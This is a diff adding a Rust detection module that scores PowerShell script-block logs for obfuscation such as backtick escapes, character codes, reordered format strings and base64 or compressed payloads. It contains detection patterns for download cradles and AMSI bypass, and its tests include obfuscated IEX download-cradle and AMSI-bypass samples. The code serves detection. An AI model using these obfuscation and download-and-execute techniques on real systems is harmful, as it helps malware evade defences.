@@ -0,0 +1,183 @@
+//! Heuristics scoring PowerShell script blocks (4104) for encoding and obfuscation
+use super::command_line::{CommandLineScore, has_base64_blob};
+
+/// Score at which a script block is reported
+pub const REPORT_SCORE: u32 = 4;
+/// Score at which a script block is reported as high severity
+pub const HIGH_SEVERITY_SCORE: u32 = 7;
+/// Backtick escapes inside words above which tick obfuscation (``I`nv`oke``) is assumed
+const TICK_OBFUSCATION_THRESHOLD: usize = 3;
+/// `[char]` casts above which a string is assumed to be built from character codes
+const CHAR_CODE_THRESHOLD: usize = 5;
+/// Concatenations of string literals above which keywords are assumed to be split up
+const CONCATENATION_THRESHOLD: usize = 5;
+
+/// Characters that form an escape sequence after a backtick in double-quoted strings
+const TICK_ESCAPES: &[char] = &['0', 'a', 'b', 'e', 'f', 'n', 'r', 't', 'u', 'v'];
+
+/// Undo the cheap obfuscations that hide keywords from plain text searches: backticks in front
+/// of letters and concatenated string literals (`'Inv'+'oke'`). The result is lowercased.
+pub fn deobfuscate(text: &str) -> String {
+    strip_ticks(&join_literals(text)).0.to_lowercase()
+}
+
+/// Join string literals concatenated with `+`
+fn join_literals(text: &str) -> String {
+    let mut result = String::with_capacity(text.len());
+    let mut chars = text.chars().peekable();
+    while let Some(c) = chars.next() {
+        if matches!(c, '\'' | '"') {
+            let mut lookahead = chars.clone();
+            while lookahead.next_if(|next| next.is_whitespace()).is_some() {}
+            if lookahead.next_if_eq(&'+').is_some() {
+                while lookahead.next_if(|next| next.is_whitespace()).is_some() {}
+                if lookahead
+                    .next_if(|next| matches!(next, '\'' | '"'))
+                    .is_some()
+                {
+                    chars = lookahead;
+                    continue;
+                }
+            }
+        }
+        result.push(c);
+    }
+    result
+}
+
+/// Drop backticks that only hide letters, outside of the escape sequences of double-quoted
+/// strings, and count them
+fn strip_ticks(text: &str) -> (String, usize) {
+    let mut result = String::with_capacity(text.len());
+    let mut stripped = 0;
+    let mut in_string = false;
+    let mut chars = text.chars().peekable();
+    while let Some(c) = chars.next() {
+        if c == '"' {
+            in_string = !in_string;
+        }
+        if c == '`'
+            && chars.peek().is_some_and(|next| {
+                next.is_ascii_alphabetic() && !(in_string && TICK_ESCAPES.contains(next))
+            })
+        {
+            stripped += 1;
+            continue;
+        }
+        result.push(c);
+    }
+    (result, stripped)
+}
+
+/// Score the text of a whole script block, reassembled from its parts
+pub fn score_script_block(text: &str) -> CommandLineScore {
+    let mut result = CommandLineScore::default();
+    let plain = deobfuscate(text);
+    let lower = text.to_lowercase();
+
+    if strip_ticks(text).1 > TICK_OBFUSCATION_THRESHOLD {
+        result.add(3, "backtick obfuscation");
+    }
+    if lower.matches("[char]").count() > CHAR_CODE_THRESHOLD {
+        result.add(3, "character codes");
+    }
+    let concatenations = ["'+'", "' + '", "\"+\"", "\" + \""]
+        .iter()
+        .map(|pattern| text.matches(pattern).count())
+        .sum::<usize>();
+    if concatenations > CONCATENATION_THRESHOLD {
+        result.add(2, "string concatenation");
+    }
+    if is_reordered_format(&lower) {
+        result.add(3, "reordered format string");
+    }
+    if plain.contains("iex(")
+        || plain.contains("iex (")
+        || plain.contains("| iex")
+        || plain.contains("|iex")
+        || plain.contains("invoke-expression")
+    {
+        result.add(2, "IEX");
+    }
+    if plain.contains("frombase64string") {
+        result.add(2, "FromBase64String");
+    }
+    if plain.contains("deflatestream") || plain.contains("gzipstream") {
+        result.add(2, "compressed payload");
+    }
+    if plain.contains("-bxor") {
+        result.add(2, "XOR decoding");
+    }
+    if plain.contains("[array]::reverse") || plain.contains("[-1..") {
+        result.add(2, "reversed string");
+    }
+    if plain.contains("amsiutils") || plain.contains("amsiinitfailed") {
+        result.add(5, "AMSI bypass");
+    }
+    if plain.contains("net.webclient") && plain.contains("download") {
+        result.add(2, "download cradle");
+    }
+    if has_base64_blob(text) {
+        result.add(2, "long base64 blob");
+    }
+    result
+}
+
+/// Format operator with placeholders out of order, e.g. `"{2}{0}{1}" -f 'ke','Invo',...`
+fn is_reordered_format(lower: &str) -> bool {
+    if !lower.contains("-f ") && !lower.contains("-f'") && !lower.contains("-f\"") {
+        return false;
+    }
+    let mut placeholders = Vec::new();
+    let mut rest = lower;
+    while let Some(start) = rest.find('{') {
+        rest = &rest[start + 1..];
+        let Some(end) = rest.find('}') else {
+            break;
+        };
+        if let Ok(index) = rest[..end].parse::<u32>() {
+            placeholders.push(index);
+        }
+        rest = &rest[end..];
+    }
+    placeholders.windows(2).any(|pair| pair[1] < pair[0])
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn obfuscated_script_blocks() {
+        assert_eq!(
+            deobfuscate("I`nv`oke-`Expression ('Net.Web'+'Client')"),
+            "invoke-expression ('net.webclient')"
+        );
+        assert_eq!(deobfuscate("Write-Host \"a`tb\""), "write-host \"a`tb\"");
+
+        let score = score_script_block(
+            "&(\"{1}{0}\" -f 'EX','I') ((New-Object Net.WebClient).DownloadString('http://x/a'))",
+        );
+        assert!(score.indicators.contains(&"reordered format string"));
+        assert!(score.indicators.contains(&"download cradle"));
+        assert!(score.score >= REPORT_SCORE);
+
+        let score = score_script_block(
+            "$d = [IO.Compression.DeflateStream]::new([IO.MemoryStream][Convert]::FromBase64String($p), 0); I`E`X (New-Object IO.StreamReader($d)).ReadToEnd()",
+        );
+        assert_eq!(
+            score.indicators,
+            ["IEX", "FromBase64String", "compressed payload"]
+        );
+        assert!(score.score < HIGH_SEVERITY_SCORE);
+
+        let benign = score_script_block(
+            "Get-ChildItem C:\\Logs | Where-Object { $_.Length -gt 1MB } | Remove-Item",
+        );
+        assert!(benign.score < REPORT_SCORE, "{benign:?}");
+        let amsi = score_script_block(
+            "[Ref].Assembly.GetType('System.Management.Automation.'+'Amsi'+'Utils')",
+        );
+        assert!(amsi.indicators.contains(&"AMSI bypass"));
+    }
+}